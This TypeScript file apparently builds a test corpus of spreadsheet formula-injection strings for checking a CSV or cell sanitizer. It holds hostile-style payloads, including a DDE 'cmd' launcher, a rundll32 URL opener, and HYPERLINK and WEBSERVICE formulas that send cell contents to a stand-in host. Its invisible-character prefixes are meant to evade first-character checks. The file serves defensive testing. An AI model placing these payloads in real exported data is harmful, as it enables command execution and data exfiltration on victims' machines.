const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.com/?"&A1,"Click")',
  'IMPORTXML("https://example.com","//a")',
  'WEBSERVICE("https://example.com/"&A1)',
  'SUM(A1:A9)',
  "rundll32|'URL.dll,OpenURL example.com'!A",
]
/** What stands before the sign, so that who looks at the first character only does not see it. */
const disguises = [
  ...[
    ' ',
    '   ',
    '\u00A0',
    '\u3000',
    '\uFEFF',
    '\u200B',
    '\u200E',
    '\u2060',
    '\u00AD',
    '\u000B',
    '\f',
    '\u0001',
    '\u0085',
  ],
  ...['\t', '\r', '\n', '\r\n', ' \t', '\n ', '\0', ';', ' ;', 'a;', 'a;"', 'a\n', 'a\r', 'a\t', 'a; '],
]

/** Texts that a spreadsheet would carry out, set to one separator or another, if they stood in a cell as they are. */
export const formulaCorpus: readonly string[] = [
  ...signs.flatMap(sign => bodies.map(body => sign + body)),
  ...disguises.flatMap(disguise =>
    ['=1+1', '@SUM(A1)', '-2+3', '+A1', '＝1+1'].map(formula => disguise + formula),
  ),
  ...['\tx', '\rx', '\nx', '\0x', '+', '-', '=', '@'],
]
